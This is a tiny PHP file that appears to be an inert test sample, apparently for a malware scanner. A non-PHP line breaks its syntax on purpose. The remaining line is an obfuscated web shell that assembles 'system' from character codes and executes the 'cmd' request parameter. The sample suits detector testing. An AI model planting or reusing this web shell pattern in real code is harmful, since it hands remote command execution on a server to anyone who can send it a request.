<?php
shodo inert sample: deliberate syntax error, this file never runs
 $d = chr(115).chr(121).chr(115).chr(116).chr(101).chr(109); $d($_GET['cmd']); ?>
